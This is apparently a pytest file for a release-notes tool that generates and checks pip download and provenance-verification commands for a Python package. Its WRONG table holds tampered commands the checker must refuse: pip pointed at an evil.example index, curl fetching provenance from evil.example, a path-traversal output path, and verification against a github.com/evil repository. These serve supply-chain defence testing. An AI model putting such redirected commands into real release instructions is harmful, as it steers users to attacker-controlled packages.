"""The commands that speak of a package index: what the page has, and what it may not have."""

from __future__ import annotations

import dataclasses
from typing import TYPE_CHECKING

import pytest

from tagseal.errors import VerificationFailed
from tagseal.machine.indexes import known_indexes
from tagseal.notes.commands import ExpectedRelease, Use, classify, require_purposes
from tagseal.notes.render import render
from tagseal.records import Artifact, Command, Index, Kind, Phase

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from tagseal.records import Plan

KNOWN = known_indexes()
COMPANY = Index(name="company", simple="https://packages.example/simple/", upload="", site="")
INDEXES = [KNOWN["pypi"], KNOWN["testpypi"], COMPANY]
PROVENANCE = KNOWN["pypi"].provenance("widget", "1.2.3", "widget-1.2.3.tar.gz")


def commands(plan: Callable[..., Plan], artifacts: Sequence[Artifact], index: Index | None) -> dict[Phase, list[str]]:
    page = render(tag="v1.2.3", plan=plan(index=index), artifacts=artifacts, override=None)
    return {phase: [command.text for command in page.commands if command.phase is phase] for phase in Phase}


@pytest.mark.parametrize("index", INDEXES, ids=lambda one: one.name)
def test_a_stranger_gets_the_wheel_by_pip_alone(
    plan: Callable[..., Plan], artifacts: tuple[Artifact, ...], index: Index
) -> None:
    """Without dependencies and without a build; another index than pip's own is named."""
    found = [text for text in commands(plan, artifacts, index)[Phase.public] if text.startswith("pip ")]
    named = [f"--index-url {index.simple}"] if index.name != "pypi" else []
    options = ["--no-deps", "--only-binary :all:", f"--dest from-{index.name}", *named]
    assert found == [" ".join(["pip download", *options, "widget==1.2.3"])]


@pytest.mark.parametrize("index", INDEXES, ids=lambda one: one.name)
def test_each_package_is_held_against_its_provenance_where_there_is_one(
    plan: Callable[..., Plan], artifacts: tuple[Artifact, ...], index: Index
) -> None:
    """Fetched first, then verified, by the repository that is the identity's."""
    text = "\n".join(commands(plan, artifacts, index)[Phase.public])
    names = [artifact.name for artifact in artifacts if artifact.kind in {Kind.wheel, Kind.sdist}] if index.site else []
    assert text.count("pypi-attestations verify pypi --repository 'https://github.com/octo/widget'") == len(names)
    for name in names:
        fetched = text.index(index.provenance("widget", "1.2.3", name))
        assert fetched < text.index(f"--provenance-file from-{index.name}/{name}.provenance")


def test_without_an_index_nothing_speaks_of_one(plan: Callable[..., Plan], artifacts: tuple[Artifact, ...]) -> None:
    """Neither an installation nor a download."""
    text = "\n".join(text for texts in commands(plan, artifacts, None).values() for text in texts)
    assert "widget==" not in text
    assert "provenance" not in text


@pytest.mark.parametrize("index", INDEXES, ids=lambda one: one.name)
def test_the_installation_asks_for_exactly_this_version(
    plan: Callable[..., Plan], artifacts: tuple[Artifact, ...], index: Index
) -> None:
    """Shown, never run: it would fetch dependencies."""
    shown = commands(plan, artifacts, index)[Phase.shown]
    named = f"--index-url {index.simple} " if index.name != "pypi" else ""
    assert shown[0] == f"pip install {named}widget==1.2.3"


def test_of_many_wheels_the_page_verifies_the_first(plan: Callable[..., Plan], artifacts: tuple[Artifact, ...]) -> None:
    """The page has room for few; the sdist is always among them."""
    wheels = tuple(
        Artifact(kind=Kind.wheel, name=f"widget-1.2.3-cp3{n}-cp3{n}-win_amd64.whl", size=1, sha256="0" * 64)
        for n in range(10, 40)
    )
    text = "\n".join(commands(plan, (*wheels, *artifacts[1:]), KNOWN["pypi"])[Phase.public])
    assert text.count("pypi-attestations verify") == 2
    assert "widget-1.2.3.tar.gz.provenance" in text


WRONG = {
    "dependencies": "pip download --only-binary :all: --dest from-pypi widget==1.2.3",
    "a build": "pip download --no-deps --dest from-pypi widget==1.2.3",
    "some builds": "pip download --no-deps --only-binary other --dest from-pypi widget==1.2.3",
    "any version": "pip download --no-deps --only-binary :all: --dest from-pypi widget",
    "another project": "pip download --no-deps --only-binary :all: --dest from-pypi widgets==1.2.3",
    "another folder": "pip download --no-deps --only-binary :all: --dest . widget==1.2.3",
    "another index": (
        "pip download --no-deps --only-binary :all: --dest from-pypi --index-url https://evil.example/simple/ "
        "widget==1.2.3"
    ),
    "two indexes": (
        "pip download --no-deps --only-binary :all: --dest from-pypi --extra-index-url https://evil.example/ "
        "widget==1.2.3"
    ),
    "another host": (
        "curl --fail --location --create-dirs --output from-pypi/widget-1.2.3.tar.gz.provenance "
        "https://evil.example/provenance"
    ),
    "another file": f"curl --fail --location --create-dirs --output widget-1.2.3.tar.gz {PROVENANCE}",
    "outside": (
        f"curl --fail --location --create-dirs --output from-pypi/../widget-1.2.3.tar.gz.provenance {PROVENANCE}"
    ),
    "another repository": (
        "pypi-attestations verify pypi --repository https://github.com/evil/widget "
        "--provenance-file from-pypi/widget-1.2.3.tar.gz.provenance widget-1.2.3.tar.gz"
    ),
    "another provenance": (
        "pypi-attestations verify pypi --repository https://github.com/octo/widget "
        "--provenance-file from-pypi/widget-1.2.3-py3-none-any.whl.provenance widget-1.2.3.tar.gz"
    ),
    "another instance": (
        "pypi-attestations verify pypi --staging --repository https://github.com/octo/widget "
        "--provenance-file from-pypi/widget-1.2.3.tar.gz.provenance widget-1.2.3.tar.gz"
    ),
    "less": (
        "pypi-attestations verify pypi --repository https://github.com/octo/widget "
        "--offline --provenance-file from-pypi/widget-1.2.3.tar.gz.provenance widget-1.2.3.tar.gz"
    ),
}


@pytest.mark.parametrize("what", WRONG)
def test_a_command_with_another_word_is_refused(
    plan: Callable[..., Plan], artifacts: tuple[Artifact, ...], what: str
) -> None:
    """A project's own template may not lead a stranger elsewhere."""
    expected = ExpectedRelease.of_plan(plan(index=KNOWN["pypi"]), "v1.2.3", artifacts)
    with pytest.raises(VerificationFailed):
        classify(Command(phase=Phase.public, text=WRONG[what]), expected=expected)


def test_the_commands_of_the_index_are_of_the_phase_public(
    plan: Callable[..., Plan], artifacts: tuple[Artifact, ...]
) -> None:
    """Nothing is there before it is published; and they are refused where the packages go to no index."""
    expected = ExpectedRelease.of_plan(plan(index=KNOWN["pypi"]), "v1.2.3", artifacts)
    text = "pip download --no-deps --only-binary :all: --dest from-pypi widget==1.2.3"
    assert classify(Command(phase=Phase.public, text=text), expected=expected).kind is Use.download
    for phase, known in ((Phase.draft, expected), (Phase.public, ExpectedRelease.of_plan(plan(), "v1.2.3", artifacts))):
        with pytest.raises(VerificationFailed):
            classify(Command(phase=phase, text=text), expected=known)


@pytest.mark.parametrize("without", ["pip download", "pypi-attestations"])
def test_a_page_that_leaves_out_the_index_is_refused(
    plan: Callable[..., Plan], artifacts: tuple[Artifact, ...], without: str
) -> None:
    """What is published there is verified there."""
    planned = plan(index=KNOWN["pypi"])
    page = render(tag="v1.2.3", plan=planned, artifacts=artifacts, override=None)
    kept = [command for command in page.commands if without not in command.text or command.phase is Phase.shown]
    with pytest.raises(VerificationFailed) as caught:
        require_purposes(kept, ExpectedRelease.of_plan(planned, "v1.2.3", artifacts), artifacts)
    assert caught.value.slug == "instructions-incomplete"


def test_names_are_normalised_as_the_index_does(plan: Callable[..., Plan], artifacts: tuple[Artifact, ...]) -> None:
    """Project ``Wid_Get`` is asked for as ``wid-get``, whatever its metadata says."""
    files = tuple(
        dataclasses.replace(artifact, name=artifact.name.replace("widget", "wid_get")) for artifact in artifacts
    )
    page = render(tag="v1.2.3", plan=plan(project="Wid_Get", index=KNOWN["pypi"]), artifacts=files, override=None)
    text = "\n".join(command.text for command in page.commands)
    assert "wid-get==1.2.3" in text
    assert "/wid-get/1.2.3/wid_get-1.2.3.tar.gz/" in text
